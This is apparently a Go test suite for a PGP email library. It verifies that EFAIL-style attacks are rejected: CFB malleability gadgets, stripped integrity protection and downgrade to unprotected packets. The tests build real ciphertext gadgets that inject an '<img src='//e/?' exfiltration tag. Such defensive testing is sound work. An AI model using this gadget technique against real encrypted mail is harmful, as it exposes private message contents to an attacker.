package pgp_test

import (
	"bytes"
	"strings"
	"testing"
)

// sealedPage is an encrypted page, uncompressed, so that who knows its beginning
// can change it; at is where its text stands in the ciphertext.
func sealedPage(t *testing.T, g *gpg) (sealed []byte, body int) {
	t.Helper()
	sealed = g.must(t, []byte(knownStart+strings.Repeat(report, 8)), "-e", "-r", team, "--compress-algo", "none", "--set-filename", "")
	return sealed, len(sealed) - len(afterEnvelope(t, sealed))
}

const knownStart = "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n<p>"

// TestCFBGadget is the second construction of EFAIL: blocks whose text is known
// are turned into markup that would carry the rest away. It stays closed with its
// integrity protection, when that is cut off, and when the packet is renamed to
// the old one that has none.
func TestCFBGadget(t *testing.T) {
	g := realGPG(t)
	ring := g.ring(t, team, peer)
	sealed, body := sealedPage(t, g)
	for at := body + 20; at+64 < len(sealed); at += 16 {
		gadget := bytes.Clone(sealed)
		for i, c := range []byte("<img src='//e/?") {
			gadget[at+i] ^= c ^ knownStart[i]
		}
		checkClosed(t, ring, gadget, at)
	}
	checkClosed(t, ring, sealed[:len(sealed)-22], len(sealed)-22)
	for _, downgraded := range [][]byte{asUnprotected(t, sealed, body, 0), asUnprotected(t, sealed, body, 22)} {
		opened := open(t, ring, mailOf(peer, encryptedEntity("encrypted", armoured(downgraded))), peer)
		if r := opened.Result; r.Decrypted || !strings.Contains(r.Problem, "no integrity protection") || strings.Contains(shown(opened), "infected") {
			t.Errorf("renamed: got %+v, text %q", r, shown(opened))
		}
	}
}

// asUnprotected makes of protected data the old kind without protection, and
// leaves out its last bytes. The packet has a length of one or two octets.
func asUnprotected(t *testing.T, sealed []byte, body, cut int) []byte {
	t.Helper()
	rest := sealed[body:]
	head := 2
	switch {
	case rest[1] >= 192 && rest[1] < 224:
		head = 3
	case rest[1] == 255:
		head = 6
	}
	data := rest[head+1 : len(rest)-cut] // without the version
	out := append(bytes.Clone(sealed[:body]), 0xC0|9, 255, 0, 0, byte(len(data)>>8), byte(len(data)))
	return append(out, data...)
}

// TestGadgetOfANamedSender: even for a sender whose old mail may be read, changed
// text is never called right.
func TestGadgetOfANamedSender(t *testing.T) {
	g := realGPG(t)
	inside := g.must(t, []byte(plainEntity(report)), "--sign", "-u", peer, "--compress-algo", "none")
	changed := bytes.Replace(inside, []byte("192.0.2.77"), []byte("192.0.2.78"), 1)
	mail := mailOf(peer, encryptedEntity("encrypted", unprotectedOf(t, g, changed)))
	opened := openLimited(t, g.ring(t, team, peer), mail, peer, legacyOf(peer))
	if verdicts(opened.Result) != "bad" || firstCode(opened) != "no-integrity-protection" {
		t.Errorf("got %+v, %v", opened.Result, opened.Problems)
	}
}
